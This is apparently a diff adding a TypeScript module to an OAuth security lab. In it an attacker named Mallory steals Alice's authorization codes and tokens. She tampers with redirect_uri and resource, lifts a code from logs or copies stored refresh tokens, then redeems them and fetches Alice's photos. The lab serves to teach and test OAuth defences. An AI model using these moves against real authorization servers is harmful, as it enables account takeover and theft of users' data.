@@ -1,0 +1,113 @@
+import { arrivedIn, type Held } from './held.ts'
+import { type Said, tells } from './said.ts'
+import type { Scene, Tokens } from './scene.ts'
+
+/** What a lab changes in the link that Alice gets. */
+export type LinkChange = { scope?: string; redirectUri?: 'begins the same'; resource?: 'Mallory’s API' }
+
+/** One thing done by hand. */
+export type ByHand = {
+  value: string | null
+  link: LinkChange
+  /** Whether Mallory began the flow herself, and so knows its verifier. */
+  knowsVerifier: boolean
+  /** What Alice's app keeps. */
+  app: Tokens
+}
+
+/** What came of it: what Mallory holds now, what she was answered, and how many of Alice's photographs that were. */
+export type Done = { holds?: Held[]; said?: Said; app?: Tokens; effect?: number }
+export type Move = (scene: Scene, hand: ByHand) => Promise<Done>
+
+/** What a lab changes in the authorization request, as parameters. RFC 6749 §4.1.1 */
+export function linkParameters({ asked, parties }: Scene, { scope, redirectUri, resource }: LinkChange) {
+  const { host } = new URL(parties.mallory)
+  return {
+    ...(scope ? { scope } : {}),
+    ...(redirectUri ? { redirect_uri: `${asked.redirectUri}@${host}/caught/${asked.run}` } : {}),
+    ...(resource ? { resource: `${parties.mallory}/api/${asked.run}` } : {}),
+  }
+}
+
+/** Alice opens the link, signs in, approves, and her browser goes where it is sent. */
+const aliceFollows: Move = async (scene, { link }) => {
+  const leadsTo = await scene.alice.approves(scene.link(linkParameters(scene, link)))
+  if (leadsTo?.startsWith('http')) await scene.alice.follows(leadsTo)
+  return { holds: await arrivedIn(scene) }
+}
+
+/** Alice connects the app that she meant; what it keeps stays with it, but for what a lab lets slip. */
+const appConnects: Move = async (scene, { link }) => {
+  const app = await scene.connects(linkParameters(scene, link))
+  return { app }
+}
+
+/** The same, and the code is found in a log afterwards. RFC 9700 §4.2.4 */
+const appConnectsAndLogs: Move = async (scene, { link }) => {
+  const code = await scene.codeFor(linkParameters(scene, link))
+  if (code === null) return {}
+  const app = await scene.redeems({ code, verifier: scene.asked.pkce ? scene.verifier : null })
+  return { app, holds: [{ kind: 'code', value: code, from: 'the log of Alice’s app' }] }
+}
+
+/** The app's storage is copied, as it is at this moment. */
+const copyStorage: Move = async (_, { app }) => {
+  const { refresh_token: value } = app
+  return value ? { holds: [{ kind: 'refresh_token', value, from: 'a copy of the app’s storage' }] } : {}
+}
+
+const appRefreshes: Move = async (scene, { app }) => {
+  if (!app.refresh_token) return {}
+  const next = await scene.refreshes(app.refresh_token)
+  return next.refresh_token ? { app: next } : {}
+}
+
+/** The app shows its token to an API that it was made for, and that is Mallory's. */
+const appCallsApi: Move = async (scene, { app }) => {
+  const resource = `${scene.parties.mallory}/api/${scene.asked.run}`
+  if (app.access_token) await scene.wire.ask(resource, { headers: { authorization: `Bearer ${app.access_token}` } })
+  return { holds: await arrivedIn(scene) }
+}
+
+/** RFC 6749 §4.1.3, by somebody who holds the code. */
+const redeem: Move = async (scene, { value, link, knowsVerifier }) => {
+  const redirectUri = linkParameters(scene, link).redirect_uri ?? scene.asked.redirectUri
+  const proof: Record<string, string> = knowsVerifier ? { code_verifier: scene.verifier } : {}
+  const form = { grant_type: 'authorization_code', code: value ?? '', redirect_uri: redirectUri, ...proof }
+  return token(scene, form)
+}
+
+/** RFC 6749 §6, by somebody who holds the token. */
+const refresh: Move = (scene, { value }) => token(scene, { grant_type: 'refresh_token', refresh_token: value ?? '' })
+
+async function token(scene: Scene, form: Record<string, string>): Promise<Done> {
+  const body = new URLSearchParams({ ...form, client_id: scene.asked.clientId })
+  const address = `${scene.parties.vault}/oauth2/token`
+  const answer = await scene.wire.ask(address, { method: 'POST', body, headers: { 'user-agent': 'Mallory' } })
+  const { access_token: access, refresh_token: next } = JSON.parse(answer.text) as Tokens
+  const holds: Held[] = []
+  if (access) holds.push({ kind: 'access_token', value: access, from: 'the token endpoint' })
+  if (next) holds.push({ kind: 'refresh_token', value: next, from: 'the token endpoint' })
+  return { holds, said: tells('POST /oauth2/token', body, answer) }
+}
+
+/** RFC 6750 §2.1. Photographs that arrive are the effect, and nothing else is. */
+const photographs: Move = async (scene, { value }) => {
+  const headers = { authorization: `Bearer ${value}`, 'user-agent': 'Mallory' }
+  const answer = await scene.wire.ask(`${scene.parties.vault}/api/v1/photos?limit=100`, { headers })
+  const effect = answer.status === 200 ? (JSON.parse(answer.text) as { photos: unknown[] }).photos.length : 0
+  return { effect, said: tells('GET /api/v1/photos?limit=100', null, answer) }
+}
+
+/** Everything that can be done by hand; a lab names those it needs. */
+export const MOVES: Record<string, Move> = {
+  'alice-follows': aliceFollows,
+  'app-connects': appConnects,
+  'app-connects-and-logs': appConnectsAndLogs,
+  'copy-storage': copyStorage,
+  'app-refreshes': appRefreshes,
+  'app-calls-api': appCallsApi,
+  redeem,
+  refresh,
+  photographs,
+}
